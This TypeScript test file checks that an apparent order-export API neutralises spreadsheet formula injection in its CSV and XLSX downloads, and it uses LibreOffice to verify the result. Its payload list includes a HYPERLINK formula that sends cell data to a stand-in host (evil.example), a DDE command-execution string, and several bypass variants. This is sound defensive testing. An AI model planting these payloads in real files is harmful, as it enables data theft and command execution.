import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addShop, startTestApi, type TestApi } from '../support/api.ts';
import { makeOrders, storeOrders } from '../support/orders.ts';
import { lacksOpenpyxl, readWorkbook } from '../support/read-table.ts';

const harmful = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＠SUM(1)',
  'Mug;=1+1',
  'Mug\n=1+1',
  'Mug\t=1+1',
  '"=1+1"',
  '",=1+1,"',
];

/** How a spreadsheet may be told, or may guess, to take a CSV file apart; formulas are asked for in each. */
const separators = { comma: 44, semicolon: 59, tab: 9 };

function lacksLibreOffice(): string | null {
  return spawnSync('soffice', ['--version']).status === 0
    ? null
    : 'needs LibreOffice (apt-get install libreoffice-calc-nogui)';
}

const missing = lacksLibreOffice() ?? lacksOpenpyxl();
if (missing !== null) console.error(`Skipped fault K6: ${missing}.`);

let api: TestApi;
let folder: string;
let path: string;

beforeAll(async () => {
  api = await startTestApi();
  folder = mkdtempSync(join(tmpdir(), 'tideline-k6-'));
  const shop = await addShop(api.sql, { name: '=1+1' });
  path = `/api/v1/shops/${shop}/orders`;
  const orders = makeOrders({ count: harmful.length, seed: 3, currency: 'USD' });
  for (const [index, order] of orders.entries()) {
    const text = harmful[index] ?? '';
    order.buyer_id = text;
    order.total_amount = '-24.90';
    order.lines = order.lines.map((line) => ({ ...line, product_name: text, seller_sku: text }));
  }
  await storeOrders(api.sql, shop, orders);
});
afterAll(async () => {
  rmSync(folder, { recursive: true });
  await api.close();
});

/** Formulas that LibreOffice sees in a file. */
function formulasOf(name: string, bytes: Uint8Array, separator?: number): string[] {
  const source = join(folder, name);
  writeFileSync(source, bytes);
  // Separator, quote, UTF-8, first line, …, special numbers, …, and at the end: evaluate formulas.
  const filter = `--infilter=CSV:${separator},34,76,1,,0,false,true,false,false,false,0,true`;
  execFileSync('soffice', [
    ...[`-env:UserInstallation=file://${join(folder, 'profile')}`, '--headless'],
    ...(separator === undefined ? [] : [filter]),
    ...['--convert-to', 'fods', '--outdir', folder, source],
  ]);
  const sheet = readFileSync(source.replace(/\.\w+$/, '.fods'), 'utf8');
  return [...sheet.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula ?? '');
}

async function download(format: string): Promise<Uint8Array> {
  const response = await api.get(`${path}?format=${format}`);
  expect(response.status).toBe(200);
  return new Uint8Array(await response.arrayBuffer());
}

describe.skipIf(missing !== null)('K6: cells that a spreadsheet could run', { timeout: 180_000 }, () => {
  it('would be seen: the same text undisarmed is a formula to LibreOffice', () => {
    const undisarmed = Buffer.from('name,note\r\n=1+1,"Mug;=1+1"\r\n');
    expect(formulasOf('undisarmed.csv', undisarmed, separators.comma)).toHaveLength(1);
    expect(formulasOf('undisarmed-semicolon.csv', undisarmed, separators.semicolon)).not.toEqual([]);
  });

  it.each(Object.entries(separators))('are text in CSV, read with a %s', async (name, separator) => {
    expect(formulasOf(`orders-${name}.csv`, await download('csv'), separator)).toEqual([]);
  });

  it('are text in XLSX, and negative amounts are numbers', async () => {
    const bytes = await download('xlsx');
    expect(formulasOf('orders.xlsx', bytes)).toEqual([]);
    const [header, ...rows] = readWorkbook(bytes)[0]?.rows ?? [];
    const at = (name: string): number => header?.findIndex((cell) => cell.value === name) ?? -1;
    expect(rows.flat().filter((cell) => cell.type === 'f')).toEqual([]);
    expect(rows.map((row) => row[at('total_amount')]?.value)).toEqual(harmful.map(() => -24.9));
    // Not every version of openpyxl knows this escape of the format.
    const told = rows.map((row) => String(row[at('buyer_id')]?.value).replace('_x000D_', '\r'));
    expect([...told].sort()).toEqual([...harmful].sort());
  });
});
